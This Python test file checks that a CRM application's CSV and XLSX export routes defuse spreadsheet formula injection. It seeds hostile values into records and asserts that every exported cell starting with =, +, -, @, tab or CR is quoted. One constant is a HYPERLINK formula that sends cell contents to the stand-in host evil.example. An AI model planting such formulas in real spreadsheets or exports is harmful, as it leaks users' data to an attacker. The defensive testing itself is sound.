"""Every CSV and XLSX the app writes neutralises formula-like text: a sweep over every
export route of the URL map (rules ending in .csv, .xlsx or .<fmt>, and the export
endpoints that queue a job) with values an attacker would type."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select

from crm import audit
from crm.exports import FORMULA_START, cell
from crm.jobs import runner
from crm.jobs.models import BackgroundJob
from tests.conftest import post_form
from tests.factories import AccountFactory, CaseFactory, UserFactory
from tests.support.meetings import at, log
from tests.support.sponsorships import make_sponsorship, worker
from tests.support.supply_chain import prospect

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik") PT Uji'
EVIL_VALUES = [EVIL, "+62 811", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


def test_cell_quotes_every_formula_start():
    for value in EVIL_VALUES:
        assert cell(value) == "'" + value
    assert cell("PT Aman") == "PT Aman" and cell(None) == "" and cell(12) == "12"


def _cells(data: bytes, mimetype: str) -> list[str]:
    if "csv" in mimetype:
        return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    book = load_workbook(io.BytesIO(data), read_only=True)
    return [
        v for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for v in row
    ]


def _export_rules(app):
    for rule in app.url_map.iter_rules():
        if rule.rule.endswith((".csv", ".xlsx", ".<fmt>")) or rule.endpoint.endswith("export"):
            yield rule


def _download(client, rule, values: dict, fmt: str):
    """The file an export route gives, running its job when it queues one."""
    path = rule.rule.replace("<fmt>", fmt)
    path = re.sub(r"<int:(\w+)>", lambda m: str(values[m.group(1)]), path)
    assert "<" not in path, f"the export sweep does not know how to fill {rule.rule}"
    resp = client.get(path) if "GET" in rule.methods else post_form(client, path, {"format": fmt})
    if resp.status_code == 302 and "/jobs/" in resp.headers["Location"]:
        job_id = resp.headers["Location"].rsplit("/", 1)[1]
        runner.run(job_id, 1)
        resp = client.get(f"/jobs/{job_id}/download")
    assert resp.status_code == 200, (path, resp.status_code, resp.get_data(as_text=True)[:300])
    return resp


def test_every_export_route_neutralises_formula_cells(app, db, client, login_as):
    admin = UserFactory(role="admin", name=EVIL)
    rm = UserFactory(role="rm", name="-RM Minus")
    account = AccountFactory(rm=rm, name=EVIL, city="+Jakarta", sector="@sektor", ownership="bumn")
    CaseFactory(account=account, arrears_unpaid=-5)
    log(account, rm, at(2026, 3, 2), agenda="@SUM(1+1)", place="=1+1", minutes="-x")
    today = date(2026, 3, 1)
    sponsorship = make_sponsorship(account, rm, today, workers=())
    from crm.sponsorships import beneficiaries

    beneficiaries.add_beneficiary(sponsorship, worker(1, name=EVIL, city="+62"), rm, today)
    prospect(account, "=vendor() PT")
    audit.record("test.evil", entity_type="account", entity_id=account.id, summary=EVIL)
    db.session.flush()
    login_as(admin)
    values = {"sponsorship_id": sponsorship.id, "parent_id": account.id}

    swept, evil_seen = [], 0
    for rule in _export_rules(app):
        for fmt in ("csv", "xlsx") if "<fmt>" in rule.rule or "POST" in rule.methods else ("",):
            resp = _download(client, rule, values, fmt)
            cells = [c for c in _cells(resp.data, resp.mimetype) if isinstance(c, str)]
            bad = [c for c in cells if c.startswith(FORMULA_START)]
            assert not bad, (rule.rule, fmt, bad[:5])
            evil_seen += sum(c == "'" + EVIL for c in cells)
            swept.append(rule.endpoint)
    assert {"admin.audit_export", "meetings.export", "cases.export"} <= set(swept)
    assert {"sponsorships.export_beneficiaries", "accounts_transfer.export"} <= set(swept)
    assert evil_seen >= 5  # the hostile name really went through the exports, quoted
    assert db.session.scalars(select(BackgroundJob)).all()  # the audit export ran as a job
